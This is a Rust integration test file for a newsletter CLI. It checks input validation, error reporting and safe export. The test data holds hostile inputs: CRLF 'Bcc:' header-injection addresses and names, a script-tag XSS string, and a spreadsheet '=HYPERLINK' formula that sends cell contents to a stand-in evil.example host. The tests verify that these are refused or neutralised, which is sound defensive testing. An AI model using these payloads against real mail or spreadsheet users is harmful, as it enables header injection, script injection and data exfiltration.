//! Bad input gets a clear error, and nothing else is lost or half-written.

mod support;

use support::app::{App, path_str};

#[test]
fn a_csv_import_reports_each_bad_row_by_line_and_imports_the_rest_once() {
    let app = App::new();
    let csv = app.path("list.csv");
    std::fs::write(
        &csv,
        "email,name\n\
         ada@example.com,Ada Lovelace\n\
         not-an-email,Nobody\n\
         \"evil@example.com\r\nBcc: victim@example.com\",Evil\n\
         grace@example.org,\"Grace\r\nBcc: victim@example.com\"\n\
         alan@example.net,<script>alert(1)</script>\n\
         ADA@EXAMPLE.COM,Ada again\n\
         ,Empty\n\
         katherine@example.com\n",
    )
    .unwrap();
    let (ok, out, err) = app.run(&[
        "subscribers",
        "import",
        path_str(&csv),
        "--consent",
        "confirmed-elsewhere",
    ]);
    assert!(!ok, "a partial import exits non-zero");
    assert!(
        out.contains("imported 3 new subscribers (3 active)"),
        "{out}"
    );
    assert!(
        out.contains("1 rows repeated an address earlier in the file"),
        "{out}"
    );
    assert!(out.contains("4 rows skipped"), "{out}");
    // Lines are physical lines: the quoted line breaks in rows 4 and 6 push the rest down.
    let file = csv.display().to_string();
    for (line, why) in [
        (3, "has no '@'"),
        (4, "control character"),
        (6, "control character"),
        (10, "empty"),
    ] {
        let prefix = format!("{file}:{line}: skipped:");
        assert!(
            err.lines()
                .any(|l| l.starts_with(&prefix) && l.contains(why)),
            "line {line} ({why}) not reported:\n{err}"
        );
    }
    let list = app.ok(&["subscribers", "list"]);
    assert_eq!(list.lines().count(), 3, "{list}");
    assert!(
        list.contains("alan@example.net\t<script>alert(1)</script>\tactive"),
        "HTML in a name is kept as text: {list}"
    );
    assert!(!list.contains("evil") && !list.contains("victim"), "{list}");

    let (_, again, _) = app.run(&["subscribers", "import", path_str(&csv)]);
    assert!(
        again.contains("imported 0 new subscribers\n")
            && again.contains("3 already subscribers: left as they were")
            && again.contains("1 rows repeated"),
        "importing twice changes nothing: {again}"
    );
    let export = app.ok(&["subscribers", "export"]);
    let mut lines = export.lines();
    assert!(
        lines
            .next()
            .is_some_and(|l| l.starts_with("#morningpost-subscribers format=1 key=")),
        "{export}"
    );
    assert!(
        lines
            .next()
            .is_some_and(|l| l.starts_with("email,name,status,source,consent,")),
        "{export}"
    );
    assert!(
        export.contains("alan@example.net,<script>alert(1)</script>,active,"),
        "{export}"
    );
}

#[test]
fn a_csv_without_an_email_column_is_refused_whole() {
    let app = App::new();
    let csv = app.path("list.csv");
    std::fs::write(&csv, "mail,name\nada@example.com,Ada\n").unwrap();
    let (ok, _, err) = app.run(&["subscribers", "import", path_str(&csv)]);
    assert!(!ok);
    assert!(
        err.contains("the header row has no email column (found: mail, name)"),
        "{err}"
    );
    assert!(app.ok(&["subscribers", "list"]).is_empty());
}

#[test]
fn hostile_single_adds_are_refused() {
    let app = App::new();
    let (ok, _, err) = app.run(&[
        "subscribers",
        "add",
        "ada@example.com\r\nBcc: victim@example.com",
    ]);
    assert!(!ok && err.contains("control character"), "{err}");
    let (ok, _, err) = app.run(&[
        "subscribers",
        "add",
        "ada@example.com",
        "--name",
        "Ada\nBcc: x@example.com",
    ]);
    assert!(!ok && err.contains("control character"), "{err}");
    assert!(
        app.ok(&["subscribers", "list"]).is_empty(),
        "nothing half-written"
    );
    let out = app.ok(&[
        "subscribers",
        "add",
        "ada@example.com",
        "--name",
        "\"Ada\" <b>L</b>",
    ]);
    assert!(out.contains("added ada@example.com"), "{out}");
    let out = app.ok(&["subscribers", "add", "ADA@example.com"]);
    assert!(
        out.contains("already a subscriber (active); nothing changed"),
        "{out}"
    );
}

#[test]
fn a_hostile_name_reaches_the_mail_quoted_and_the_html_escaped() {
    let app = App::new();
    app.ok(&[
        "subscribers",
        "add",
        "ada@example.com",
        "--name",
        "\"Ada\" <b>L</b>",
    ]);
    app.ok(&["send", &app.sample_issue(), "--wait"]);
    let outbox = app.path("outbox");
    let file = std::fs::read_dir(&outbox)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "eml"))
        .expect("a message in the outbox");
    let bytes = std::fs::read(file).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.contains("\r\nTo: \"\\\"Ada\\\" <b>L</b>\" <ada@example.com>\r\n"),
        "{:.600}",
        text
    );
    let parsed = mail_parser::MessageParser::default().parse(&bytes).unwrap();
    let to = parsed.to().and_then(|a| a.first()).unwrap();
    assert_eq!(
        (to.name(), to.address()),
        (Some("\"Ada\" <b>L</b>"), Some("ada@example.com"))
    );
}

#[test]
fn an_unreadable_dkim_key_stops_the_send_before_anything_is_queued() {
    let mut app = App::new();
    app.ok(&["subscribers", "add", "ada@example.com"]);
    app.set("MORNINGPOST_DKIM_KEY_FILE", "/nonexistent/dkim.pem")
        .set("MORNINGPOST_DKIM_SELECTOR", "s1");
    let (ok, _, err) = app.run(&["send", &app.sample_issue(), "--wait"]);
    assert!(!ok);
    assert!(
        err.contains("cannot read the DKIM key /nonexistent/dkim.pem")
            && err.contains("MORNINGPOST_DKIM_KEY_FILE"),
        "{err}"
    );
    let garbage = app.path("garbage.pem");
    std::fs::write(
        &garbage,
        "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
    )
    .unwrap();
    app.set("MORNINGPOST_DKIM_KEY_FILE", path_str(&garbage));
    let (ok, _, err) = app.run(&["worker", "--until-done"]);
    assert!(
        !ok && err.contains("is not a PEM RSA or Ed25519 private key"),
        "{err}"
    );
    let (_, status, _) = app.run(&["status"]);
    assert!(
        status.contains("queued             0"),
        "the send refused before queueing: {status}"
    );
}

#[test]
fn a_bad_smtp_url_is_refused_and_the_queue_keeps_its_rows() {
    let mut app = App::new();
    app.ok(&["subscribers", "add", "ada@example.com"]);
    app.ok(&["send", &app.sample_issue()]);
    for (url, why) in [
        ("http://relay.example.com", "unknown scheme \"http\""),
        ("smtp://u:hunter2@relay.example.com?tls=none", "clear text"),
    ] {
        app.set("MORNINGPOST_SMTP_URL", url);
        let (ok, _, err) = app.run(&["worker", "--until-done"]);
        assert!(!ok, "{url}");
        assert!(err.contains("SMTP URL") && err.contains(why), "{err}");
        assert!(!err.contains("hunter2"), "{err}");
    }
    app.env.remove("MORNINGPOST_SMTP_URL");
    let status = app.ok(&["status"]);
    assert!(status.contains("queued             1"), "{status}");
    app.ok(&["worker", "--until-done"]);
    assert!(app.ok(&["status"]).contains("sent               1"));
}

#[test]
fn bad_configuration_fails_at_start_with_the_key_and_the_fix() {
    let mut app = App::new();
    app.set("MORNINGPOST_CONCURRENCY", "0");
    let (ok, _, err) = app.run(&["subscribers", "list"]);
    assert!(!ok);
    assert!(
        err.contains("`concurrency`")
            && err.contains("MORNINGPOST_CONCURRENCY")
            && err.contains("use a number from 1 to 256"),
        "{err}"
    );
}

/// Spreadsheets write CRLF line ends; the csv crate counts the `\n` of a CRLF with the next
/// row, and a blank line with the row after it. Before: `readers.csv:51` for line 52.
#[test]
fn import_names_the_line_each_bad_row_starts_on() {
    let app = App::new();
    let csv = app.path("readers.csv");
    let mut rows: Vec<Vec<u8>> = vec![b"email,name".to_vec()];
    rows.extend((2..=51).map(|i| format!("reader{i}@example.com,Reader {i}").into_bytes()));
    rows.push(b"not-an-email,Line 52".to_vec());
    rows.push(b"".to_vec());
    rows.push(b"grace@example.org,\"Grace\r\nHopper\"".to_vec());
    rows.push(b"\xff@example.com,Line 56".to_vec());
    rows.push(b"\"\"\"ada\"\"@example.org\",Line 57".to_vec());
    rows.push(b"ada@example.org,Line 58".to_vec());
    std::fs::write(&csv, rows.join(&b"\r\n"[..])).unwrap();
    let (ok, out, err) = app.run(&["subscribers", "import", path_str(&csv)]);
    assert!(
        out.contains("51 imported pending, not active: the file gives no basis"),
        "without a basis nobody is mailed: {out}"
    );
    assert!(!ok, "a partial import exits non-zero");
    assert!(out.contains("imported 51 new subscribers"), "{out}");
    let file = csv.display().to_string();
    let reported: Vec<&str> = err
        .lines()
        .filter_map(|l| l.strip_prefix(&format!("{file}:")))
        .collect();
    let expected = [
        // A bad address on line 52.
        ("52: skipped:", "has no '@'"),
        // A name with a line break, quoted over lines 54 and 55: where the row starts.
        ("54: skipped:", "control character"),
        // Not UTF-8: the csv crate's own error, on its line too.
        ("56: skipped:", "not valid UTF-8"),
        // A quoted local part.
        ("57: skipped:", "has quotes"),
    ];
    assert_eq!(reported.len(), expected.len(), "{err}");
    for (line, (prefix, why)) in reported.iter().zip(expected) {
        assert!(
            line.starts_with(prefix) && line.contains(why),
            "expected {prefix} … {why}, got {line}"
        );
    }
}

#[test]
fn a_quoted_local_part_is_refused_not_a_second_subscriber() {
    let app = App::new();
    app.ok(&["subscribers", "add", "ada@example.org"]);
    for address in ["\"ada\"@example.org", "\"a,b@evil.example\"@example.com"] {
        let (ok, _, err) = app.run(&["subscribers", "add", address]);
        assert!(!ok, "{address} accepted");
        assert!(err.contains("write the address without them"), "{err}");
    }
    assert_eq!(app.statuses(), "ada@example.org\t-\tactive\t-\n");
}

/// Before: a name such as `=HYPERLINK(…)` went out as a live formula.
#[test]
fn export_neutralises_formulas_and_imports_back_unchanged() {
    let app = App::new();
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
    for (email, name) in [
        ("ada@example.com", formula),
        ("-grace@example.org", "+1 555"),
        ("alan@example.net", "@SUM(A1:A9)"),
        ("katherine@example.com", "Katherine Johnson"),
    ] {
        app.ok(&["subscribers", "add", "--name", name, "--", email]);
    }
    let export = app.ok(&["subscribers", "export"]);
    let mut reader = csv::ReaderBuilder::new()
        .comment(Some(b'#'))
        .from_reader(export.as_bytes());
    let cells: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[1].to_owned())
        })
        .collect();
    for (email, name) in &cells {
        for cell in [email, name] {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would be a formula in a spreadsheet"
            );
        }
    }
    assert!(
        cells.contains(&("ada@example.com".to_owned(), format!("'{formula}"))),
        "{export}"
    );
    assert!(
        cells.contains(&("'-grace@example.org".to_owned(), "'+1 555".to_owned())),
        "{export}"
    );
    assert!(cells.contains(&(
        "katherine@example.com".to_owned(),
        "Katherine Johnson".to_owned()
    )));

    let again = App::new();
    let file = again.path("export.csv");
    std::fs::write(&file, &export).unwrap();
    again.ok(&["subscribers", "import", path_str(&file)]);
    let sorted = |list: String| {
        let mut lines: Vec<String> = list.lines().map(str::to_owned).collect();
        lines.sort();
        lines
    };
    assert_eq!(
        sorted(again.statuses()),
        sorted(app.statuses()),
        "the same readers, the same names"
    );
}

/// Before: a folder in new/ stopped the command with exit 1 before any mail was processed,
/// on every run.
#[test]
fn an_unreadable_maildir_entry_is_skipped_and_the_rest_processed() {
    let app = App::new();
    app.ok(&["subscribers", "add", "ada@example.com"]);
    let id = app.uuids(
        "SELECT id FROM subscribers WHERE email = $1",
        "ada@example.com",
    )[0];
    let token = morningpost::domain::TokenKey::from_hex(support::app::SECRET_KEY)
        .unwrap()
        .unsubscribe_token(id);
    let maildir = app.path("maildir");
    let new = maildir.join("new");
    std::fs::create_dir_all(new.join("a-folder")).unwrap();
    std::fs::write(
        new.join("1.host"),
        format!(
            "From: ada@example.com\r\nSubject: unsubscribe {}\r\n\r\n",
            token.expose()
        ),
    )
    .unwrap();
    std::fs::write(new.join("2.host"), "Subject: hello\r\n\r\nbuy now\r\n").unwrap();
    let out = app
        .command(&["unsubscribe-mail", "--maildir", path_str(&maildir)])
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "done, but not all of it: {stderr}"
    );
    assert!(
        stdout.contains(
            "2 messages read: 1 unsubscribed, 0 already unsubscribed, 1 without a valid token"
        ),
        "{stdout}"
    );
    assert!(
        stderr.contains(&format!("{}: skipped:", new.join("a-folder").display())),
        "{stderr}"
    );
    assert_eq!(app.status_of("ada@example.com"), "unsubscribed");
    let left: Vec<_> = std::fs::read_dir(&new)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(
        left,
        ["a-folder"],
        "processed mail leaves new/, the folder stays"
    );
    assert_eq!(std::fs::read_dir(maildir.join("cur")).unwrap().count(), 2);
}

/// Logs for machines and people: JSON lines parse one by one with the message and fields
/// as keys; text piped to a file carries no colour codes; an unknown format is a
/// configuration error that names the key.
#[test]
fn logs_are_json_lines_or_plain_text_when_piped() {
    let mut app = App::new();
    app.set("MORNINGPOST_LOG", "info");
    app.import_readers(&app.write_subscribers(2));
    let issue = app.sample_issue();

    app.set("MORNINGPOST_LOG_FORMAT", "json");
    let out = app
        .command(&["send", &issue, "--wait"])
        .output()
        .expect("run");
    assert!(out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    let lines: Vec<serde_json::Value> = stderr
        .lines()
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let stopped = lines
        .iter()
        .find(|l| l["message"] == "worker stopped")
        .unwrap_or_else(|| panic!("{stderr}"));
    assert_eq!(stopped["sent"], 2, "fields, not a Debug dump: {stopped}");
    assert_eq!(stopped["level"], "INFO");

    app.set("MORNINGPOST_LOG_FORMAT", "text");
    let out = app
        .command(&["worker", "--until-done"])
        .output()
        .expect("run");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("worker"), "{stderr}");
    assert!(
        !stderr.contains('\u{1b}'),
        "no ANSI codes when piped: {stderr:?}"
    );
    assert!(!stderr.contains("WorkerReport"), "{stderr}");

    app.set("MORNINGPOST_LOG_FORMAT", "xml");
    let (ok, _, err) = app.run(&["status"]);
    assert!(
        !ok && err.contains("log_format") && err.contains("use text or json"),
        "{err}"
    );
}

/// A path that is not a readable file is an error that names it; nothing is imported.
#[test]
fn an_import_of_a_folder_or_a_missing_file_says_so() {
    let app = App::new();
    let folder = app.path("a-folder");
    std::fs::create_dir(&folder).unwrap();
    let (ok, _, err) = app.run(&["subscribers", "import", path_str(&folder)]);
    assert!(
        !ok && err.contains("cannot read") && err.contains("a-folder"),
        "{err}"
    );
    assert!(
        err.contains("caused by: Is a directory"),
        "the cause is printed: {err}"
    );
    let missing = app.path("missing.csv");
    let (ok, _, err) = app.run(&["subscribers", "import", path_str(&missing)]);
    assert!(
        !ok && err.contains("cannot read") && err.contains("missing.csv"),
        "{err}"
    );
}

/// Unsigned mail over SMTP is allowed (a test relay, a relay that signs) but never silent.
#[test]
fn a_worker_without_a_dkim_key_warns_when_it_sends_over_smtp() {
    let mut app = App::new();
    app.ok(&["init"]);
    let (ok, _, err) = app.run(&["worker", "--until-done"]);
    assert!(
        ok && !err.contains("DKIM"),
        "the outbox needs no signature: {err}"
    );
    app.set("MORNINGPOST_SMTP_URL", "smtp://127.0.0.1:2525");
    let (ok, _, err) = app.run(&["worker", "--until-done"]);
    assert!(ok, "{err}");
    assert!(err.contains("without a DKIM signature"), "{err}");
}
